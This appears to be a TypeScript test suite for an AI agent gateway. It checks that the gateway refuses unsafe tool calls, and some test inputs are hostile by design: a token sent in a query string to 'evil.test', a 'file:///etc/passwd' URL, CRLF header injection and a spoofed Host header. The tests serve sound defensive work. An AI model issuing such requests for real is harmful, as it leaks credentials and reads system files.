import type { Agent, JsonObject } from "@yagate/protocol";
import { describe, expect, it } from "vitest";
import { startNetworkWorld, TOKEN } from "./support/network-world.ts";

const world = await startNetworkWorld();
const { service } = world;
await world.secret("SHOP", TOKEN);
await world.secret("OTHER", "another-planted-value", { hosts: ["api.other.test"] });
const agent = await world.agent({ credentials: ["SHOP", "OTHER"] });
const url = service.url("/orders");

/** The error of a call that must be refused, and that nothing was sent. */
async function refusal(name: string, parameters: JsonObject, of: Agent = agent) {
  const before = service.requests.length;
  const call = await world.one(of, name, parameters);
  expect(service.requests).toHaveLength(before);
  return { status: call.status, blocked: call.blocked, reason: call.blockReason, ...call.error };
}

describe("a refused request", () => {
  it.each<[string, string, string, string, JsonObject]>([
    ["a credential that is missing", "CREDENTIAL_MISSING", "credential_missing", "api_call", { method: "GET", url }],
    [
      "a credential that is null",
      "CREDENTIAL_MISSING",
      "credential_missing",
      "api_call",
      { method: "GET", url, credential: null },
    ],
    [
      "an unknown credential",
      "CREDENTIAL_UNKNOWN",
      "credential_unknown",
      "api_call",
      { method: "GET", url, credential: "NOBODY" },
    ],
    ["a host of nobody", "URL_BLOCKED", "url_not_allowed", "http_get", { url: "https://evil.test/" }],
    ["a port of nobody", "URL_BLOCKED", "url_not_allowed", "http_get", { url: "https://api.shop.test:9/" }],
    ["a user name", "URL_BLOCKED", "url_not_allowed", "http_get", { url: "https://a:b@api.shop.test/" }],
    ["another scheme", "URL_BLOCKED", "url_not_allowed", "http_get", { url: "file:///etc/passwd" }],
    ["no URL at all", "URL_BLOCKED", "url_not_allowed", "http_get", { url: "orders" }],
    [
      "a secret's other host",
      "URL_BLOCKED",
      "url_not_allowed",
      "api_call",
      { method: "GET", url, credential: "OTHER" },
    ],
    ["a secret in the URL", "CREDENTIAL_LEAK", "credential_leak", "http_get", { url: `${url}?k=${TOKEN}` }],
    ["a private address", "DNS_BLOCKED", "dns_validation_failed", "http_get", { url: "https://private.example/" }],
    ["a name of nobody", "DNS_BLOCKED", "dns_validation_failed", "http_get", { url: "https://a.unknown.example/" }],
    ["another host's webhook", "WEBHOOK_NOT_REGISTERED", "webhook_not_registered", "webhook", { url }],
  ])("for %s has its code", async (_name, code, reason, tool, parameters) => {
    expect(await refusal(tool, parameters)).toMatchObject({
      status: "failed",
      code,
      blocked: true,
      reason,
      outcome: "none",
      source: "gateway",
    });
  });

  it("for webhooks that are not turned on says so", async () => {
    const without = await world.agent({ integrations: ["shop"] });
    const hook = service.url("/hook", "hooks.test");
    expect(await refusal("webhook", { url: hook }, without)).toMatchObject({ code: "WEBHOOK_NOT_ENABLED" });
  });

  it.each<[string, JsonObject, RegExp]>([
    ["a body of a GET", { method: "GET", body: {} }, /no body/],
    ["a method that is none", { method: "TRACE" }, /method/],
    ["a header of the gateway's own", { method: "POST", headers: { Host: "evil.test" } }, /header host/],
    ["a header for a proxy", { method: "POST", headers: { "Proxy-Authorization": "x" } }, /proxy-authorization/],
    ["a header that breaks the line", { method: "POST", headers: { "X-A": "a\r\nb" } }, /x-a to have/],
    ["a header twice", { method: "POST", headers: { "X-A": "a", "x-a": "b" } }, /x-a once/],
    ["a name that is no header's", { method: "POST", headers: { "a b": "c" } }, /names of headers/],
    ["a body that is too large", { method: "POST", body: "x".repeat(65_537) }, /65536 bytes/],
    ["a field that is none", { method: "POST", bodyy: 1 }, /bodyy/],
  ])("for %s is told as wrong arguments, before anything is asked of anybody", async (_name, parameters, words) => {
    const call = await world.one(agent, "api_call", { url, credential: "SHOP", ...parameters });
    expect(call).toMatchObject({ status: "failed", attempts: [], error: { code: "INVALID_ARGUMENTS" } });
    expect(call.error?.message).toMatch(words);
  });

  it("names what is approved to whoever may choose", async () => {
    expect((await refusal("http_get", { url: "https://evil.test/" })).message).toContain("api.shop.test");
    expect((await refusal("api_call", { method: "GET", url })).message).toContain("SHOP, OTHER");
    expect((await refusal("webhook", { url })).message).toContain("http://hooks.test");
  });

  it("for an address says nothing of it to the model, and all to the developer", async () => {
    const error = await refusal("http_get", { url: "https://private.example/" });
    expect(error.message).not.toContain("10.0.0.1");
    expect(error.developerMessage).toContain("10.0.0.1");
  });
});

it("a request over http to a public host is refused for that, as the developer is told", async () => {
  const error = await refusal("http_get", { url: "http://public.example/" });
  expect(error).toMatchObject({ code: "DNS_BLOCKED" });
  expect(error.developerMessage).toBe("public.example is outside the allowlisted networks, so the url must be https");
});

describe("where several reasons apply", () => {
  const everything = { method: "GET", url: `https://evil.test/?k=${TOKEN}` };

  it.each<[string, string, JsonObject]>([
    ["a missing credential comes before the URL", "CREDENTIAL_MISSING", everything],
    ["the URL before an unknown credential", "URL_BLOCKED", { ...everything, credential: "NOBODY" }],
    [
      "an unknown credential before a leak",
      "CREDENTIAL_UNKNOWN",
      { method: "GET", url: `${url}?k=${TOKEN}`, credential: "NO" },
    ],
    [
      "a leak before DNS",
      "CREDENTIAL_LEAK",
      { method: "GET", url: `https://a.unknown.example/?k=${TOKEN}`, credential: "ANYWHERE" },
    ],
  ])("%s", async (_name, code, parameters) => {
    await world.secret("ANYWHERE", "planted-for-any-host", { hosts: ["a.unknown.example"] });
    const wide = await world.agent({ credentials: ["SHOP", "ANYWHERE"] });
    expect(await refusal("api_call", parameters, wide)).toMatchObject({ code });
  });
});
